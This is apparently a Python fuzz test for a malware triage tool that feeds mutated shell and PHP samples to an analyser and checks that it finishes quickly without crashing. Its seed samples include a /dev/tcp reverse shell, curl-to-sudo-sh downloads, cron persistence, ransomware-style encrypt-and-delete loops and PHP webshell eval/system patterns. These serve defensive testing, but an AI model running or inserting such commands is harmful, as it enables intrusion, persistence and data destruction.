"""Shell and PHP nobody would write: whatever the text, reading what it does ends, and raises only a limit."""

import contextlib
import os
import random
import time

import pytest

from tests.fuzz.mutations import mutated
from vedette.core.errors import LimitHit
from vedette.triage.allowance import Allowance
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

SECONDS = float(os.environ.get("SOAK_SECONDS", "600"))
SEEDS = {
    Kind.SHELL: (
        b"f() { curl -s $1 || wget -qO- $1; }\nf http://a.invalid/a | sudo sh -c 'cat | bash -s x'\n",
        b"exec 5<>/dev/tcp/a/1; cat <&5 | while read l; do $l 2>&5 >&5; done\ntrap 'rm -rf \"$T\"' EXIT\n",
        b"(crontab -l; echo '* * * * * curl x | sh') | crontab -\ncat > /etc/rc.local <<EOF\n$x $(id)\nEOF\n",
        b'find /home -type f -exec sh -c \'openssl enc -aes-256-cbc -in "$1"; rm "$1"\' _ {} \\;\n',
        b'for i in {1..99}; do f; done; eval "$(base64 -d <<< aWQ=)"; . <(curl x); a+=($i) b=${a[@]#x}\n',
    ),
    Kind.PHP: (
        b'<?php function f($c, &...$d) { eval($c); } foreach ($_POST as $k => $v) { $$k = $v; } f("a$x");',
        b"<?php class A { function m() { return `$this->c {$_GET['x']}`; } } (new A)->m(...$_REQUEST['q']);",
        b"<?php $f = fn($x) => system('a'.'b'.$x); array_map($f, $a); include <<<E\nhttp://a.invalid/$x\nE;",
        b"<iframe width=1 src=x><?= copy('http://a.invalid/b', '/b') ?><?php extract($_COOKIE); mail($a);",
    ),
}


def tried(kind: Kind, data: bytes) -> float:
    began = time.process_time()
    with contextlib.suppress(LimitHit):
        list(facts(Sample(name="a", data=data, kind=kind), Allowance()))
    return time.process_time() - began


def some(kind: Kind, chance: random.Random) -> bytes:
    made, other = chance.choice(SEEDS[kind]), chance.choice(SEEDS[chance.choice(list(SEEDS))])
    if chance.random() < 0.2:
        made *= chance.choice((20, 400))
    return mutated(made, other, chance)


@pytest.mark.parametrize("kind", list(SEEDS))
def test_a_few_mutations_break_nothing(kind: Kind) -> None:
    chance = random.Random(11)  # noqa: S311  not a secret
    assert max(tried(kind, some(kind, chance)) for _ in range(4)) < 8


@pytest.mark.slow
@pytest.mark.timeout(0)
@pytest.mark.parametrize("kind", list(SEEDS))
def test_no_mutation_crashes_or_hangs(kind: Kind) -> None:
    seed, end = time.time_ns(), time.monotonic() + SECONDS / len(SEEDS)
    chance = random.Random(seed)  # noqa: S311  not a secret
    while time.monotonic() < end:
        assert tried(kind, some(kind, chance)) < 10, f"seed {seed}"
